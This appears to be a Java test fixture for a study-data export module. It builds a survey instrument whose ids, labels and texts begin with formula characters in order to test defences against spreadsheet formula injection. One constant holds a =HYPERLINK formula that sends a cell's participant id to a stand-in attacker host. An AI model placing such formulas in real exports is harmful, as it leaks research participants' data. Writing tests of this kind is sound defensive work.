package org.haven.analytics.export;

import org.haven.analytics.answers.StudyResponses;
import org.haven.instrument.Composite;
import org.haven.instrument.Instrument;
import org.haven.instrument.Item;
import org.haven.instrument.Scale;
import org.haven.instrument.Subscale;
import org.haven.instrument.ValueLabel;

import java.time.Instant;
import java.time.LocalDate;
import java.util.List;

/**
 * An instrument published before ids had to be letters, digits and _, whose texts, labels and ids a spreadsheet
 * would run as formulas, on a bipolar scale -3..3 so that values and scores are negative numbers. Nothing scored
 * is reverse-keyed. Two participants, one wave:
 *
 * <pre>
 * pid               =1+1  calm_2  trust_1  trust_2  trust_3    @calm  trust  +safety
 * 0a1b2c3d4e5f6071  -3    -2      -1       0        1          -2.5   0      -1.25
 * 1f2e3d4c5b6a7980  -1    0       3        3        3          -0.5   3      1.25
 * </pre>
 */
final class FormulaStudy {

    static final String PID_A = "0a1b2c3d4e5f6071";
    static final String PID_B = "1f2e3d4c5b6a7980";
    static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")";

    private FormulaStudy() {
    }

    static Instrument instrument() {
        Scale bipolar = new Scale("bipolar", -3, 3, List.of(new ValueLabel(-3, "@strongly disagree"),
                new ValueLabel(-2, "disagree"), new ValueLabel(-1, "somewhat disagree"), new ValueLabel(0, "neutral"),
                new ValueLabel(1, "somewhat agree"), new ValueLabel(2, "agree"), new ValueLabel(3, "strongly agree")));
        return new Instrument("=old", 1, "=Old", List.of(bipolar),
                List.of(new Subscale("@calm", "=calm"), new Subscale("trust", "trust")),
                List.of(new Item("=1+1", "@calm", HYPERLINK, false, "bipolar", false),
                        new Item("calm_2", "@calm", "+1 when calm", false, "bipolar", false),
                        new Item("trust_1", "trust", "-I can rely on my partner.", false, "bipolar", false),
                        new Item("trust_2", "trust", "\tI keep checking up on my partner.", false, "bipolar", false),
                        new Item("trust_3", "trust", "\rI feel safe.", false, "bipolar", false)),
                List.of(new Composite("+safety", "mean of both", List.of("@calm", "trust"))));
    }

    static StudyResponses study() {
        Instrument instrument = instrument();
        return new StudyResponses(List.of(instrument), List.of(
                TinyStudy.response(PID_B, 1, instrument, "=1+1", -1, "calm_2", 0, "trust_1", 3, "trust_2", 3,
                        "trust_3", 3),
                TinyStudy.response(PID_A, 1, instrument, "=1+1", -3, "calm_2", -2, "trust_1", -1, "trust_2", 0,
                        "trust_3", 1)));
    }

    static List<ResponseDates> dates() {
        Instant enrolled = Instant.parse("2027-03-01T09:00:00Z");
        return List.of(ResponseDates.of(PID_A, 1, enrolled, LocalDate.parse("2027-03-01")),
                ResponseDates.of(PID_B, 1, enrolled, LocalDate.parse("2027-03-08")));
    }
}
